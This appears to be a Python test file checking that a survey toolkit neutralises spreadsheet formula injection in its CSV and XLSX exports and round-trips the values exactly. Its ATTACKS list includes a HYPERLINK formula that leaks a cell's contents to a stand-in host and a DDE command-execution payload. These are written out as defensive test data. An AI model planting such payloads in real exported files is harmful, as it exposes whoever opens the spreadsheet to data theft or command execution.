"""Formula injection (OWASP's CSV injection): every formula prefix, through CSV and XLSX,
comes back exactly; neutralise/restore are inverse for all text (Hypothesis)."""

import csv
import io

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from toolkit.exchange.responses import export_responses, plan_import
from toolkit.exchange.responses_csv import decode_rows, encode
from toolkit.exchange.spreadsheet import (
    FORMULA_STARTS,
    from_xml_text,
    neutralise,
    restore,
    xml_text,
)
from toolkit.sessions import SessionService

PREFIXES = sorted(FORMULA_STARTS) + ["'", "''"]
ATTACKS = ['=1+1', '=HYPERLINK("http://x.invalid/?leak="&A1,"click")', "+1+1", "-1+1",
           "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)",
           "'=1+1", "''", "'", "=", "-", "-5", "=cmd|' /C calc'!A0", "a=1", " =1+1"]


@given(st.text())
def test_restore_undoes_neutralise_for_all_text(text):
    assert restore(neutralise(text)) == text
    assert not neutralise(text)[:1] or neutralise(text)[0] not in FORMULA_STARTS


@given(st.text())
def test_xml_text_is_reversible_and_xml_safe(text):
    escaped = xml_text(text)
    assert from_xml_text(escaped) == text
    assert not any(c in escaped for c in "\r\x00\x01\x1f\ufffe")


@given(st.lists(st.lists(st.one_of(st.none(), st.text(alphabet=st.characters(
    blacklist_characters="\x00", blacklist_categories=("Cs",))), st.integers(-10**6, 10**6)),
    min_size=3, max_size=3),
    min_size=1, max_size=4))
def test_csv_cells_round_trip_exactly(rows):
    header = [["a", "b", "c"]]
    back, _enc = decode_rows(encode(header + rows))
    want = [["" if v is None else str(v) for v in row] for row in rows]
    assert back == [["a", "b", "c"]] + want


@pytest.fixture
def service(kit):
    return SessionService(kit.store)


def one_answer_session(service, text):
    s = service.create_session("X")
    r = service.add_respondent(s.id)
    service.save_answer(r.id, "unsafe_places", text)
    service.save_answer(r.id, "safe_day", 3)
    return service.get(s.id), r


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_every_formula_prefix_is_neutralised_and_comes_back_exactly(service, tmp_path, suffix):
    for attack in ATTACKS:
        session, r = one_answer_session(service, attack)
        path = tmp_path / f"a{suffix}"
        export_responses(service, session, path)
        if suffix == ".csv":
            rows = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"),
                                               newline="")))
            cell = rows[1][rows[0].index("unsafe_places")]
            assert cell[:1] not in FORMULA_STARTS, attack  # a spreadsheet sees text
        else:
            ws = openpyxl.load_workbook(path).worksheets[0]
            header = [c.value for c in ws[1]]
            assert ws.cell(2, header.index("unsafe_places") + 1).data_type == "s"
        plan = plan_import(service, session, path)
        assert plan.unchanged == 1 and not plan.changes, attack
        copy = service.get(service.create_session("Copy").id)
        plan = plan_import(service, copy, path)
        assert plan.new[0].answers["unsafe_places"] == attack


TEXT = st.text(alphabet=st.characters(blacklist_characters="\x00",
                                      blacklist_categories=("Cs",)), min_size=1, max_size=200)


@settings(max_examples=40, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=TEXT)
def test_any_text_answer_round_trips_exactly_through_csv_and_xlsx(service, tmp_path, text):
    session, r = one_answer_session(service, text)
    for suffix in (".csv", ".xlsx"):
        path = tmp_path / f"h{suffix}"
        export_responses(service, session, path)
        plan = plan_import(service, session, path)
        assert plan.unchanged == 1 and not plan.changes, (suffix, text)
